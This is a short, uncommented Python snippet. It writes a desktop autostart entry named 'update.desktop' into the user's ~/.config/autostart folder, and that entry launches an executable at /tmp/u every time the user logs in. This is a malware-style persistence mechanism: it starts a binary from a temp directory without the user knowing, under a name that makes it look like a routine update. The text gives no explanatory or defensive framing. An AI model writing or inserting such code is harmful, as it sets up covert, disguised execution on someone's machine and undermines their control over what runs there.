import os

path = os.path.join(os.path.expanduser("~"), ".config/autostart/update.desktop")
open(path, "w").write("[Desktop Entry]\nExec=/tmp/u")
